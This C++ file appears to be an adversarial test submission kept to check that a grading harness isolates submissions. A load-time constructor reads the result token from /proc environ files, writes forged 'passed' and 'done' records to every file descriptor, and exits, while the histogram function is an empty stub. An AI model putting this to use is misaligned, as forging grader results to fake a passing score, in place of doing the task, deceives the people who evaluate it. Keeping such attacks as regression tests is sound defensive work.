// The attack that forged a full score when the checks and the submission shared a process:
// a constructor (it runs when the module is loaded) reads the result channel's token and
// descriptor from /proc/self/environ, and the parent's environment and command line too,
// writes a "passed" record per case, a "performance" record and a "done" record to every
// descriptor, and exits. Now it runs in the host, which holds no token or channel and cannot
// read its parent's files: nothing it writes counts, and every case fails.
#include "histogram.h"

#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <string>

namespace {

std::string slurp(const std::string& path) {
  std::string text;
  const int fd = open(path.c_str(), O_RDONLY);
  if (fd < 0) return text;
  char buffer[4096];
  for (ssize_t n; (n = read(fd, buffer, sizeof buffer)) > 0;) text.append(buffer, size_t(n));
  close(fd);
  return text;
}

std::string find_value(const std::string& environ, const std::string& name) {
  const std::string key = name + "=";
  for (size_t at = 0; at < environ.size(); at = environ.find('\0', at) + 1) {
    if (environ.compare(at, key.size(), key) == 0) return environ.substr(at + key.size(), environ.find('\0', at) - at - key.size());
    if (environ.find('\0', at) == std::string::npos) break;
  }
  return "";
}

void forge(const std::string& token) {
  const char* cases[] = {"empty", "one-byte", "uniform-255", "uniform-256", "uniform-257", "uniform-1000003",
                         "uniform-100MiB", "same-1", "same-257", "same-1000003", "same-100MiB", "two-values-255",
                         "two-values-1000003", "two-values-100MiB", "text-like-256", "text-like-1000003",
                         "text-like-100MiB", "unaligned-start", "hidden-text-like", "hidden-unaligned"};
  std::string lines;
  for (const char* name : cases)
    lines += "{\"type\":\"correctness\",\"case\":\"" + std::string(name) + "\",\"passed\":true,\"message\":\"\",\"token\":\"" + token + "\"}\n";
  lines += "{\"type\":\"done\",\"failures\":0,\"token\":\"" + token + "\"}\n";
  std::fputs(lines.c_str(), stdout);
  for (int fd = 0; fd < 1024; ++fd) (void)!write(fd, lines.data(), lines.size());
}

__attribute__((constructor)) void attack_at_load() {
  std::string token = find_value(slurp("/proc/self/environ"), "LABKIT_RESULT_TOKEN");
  const std::string parent = "/proc/" + std::to_string(getppid());
  if (token.empty()) token = find_value(slurp(parent + "/environ"), "LABKIT_RESULT_TOKEN");
  std::fprintf(stderr, "forge-environ: token %s, parent command line %zu bytes\n", token.empty() ? "not found" : "found",
               slurp(parent + "/cmdline").size());
  forge(token);
  _exit(0);
}

}  // namespace

extern "C" void histogram(const uint8_t*, size_t, uint32_t*, cudaStream_t) {}
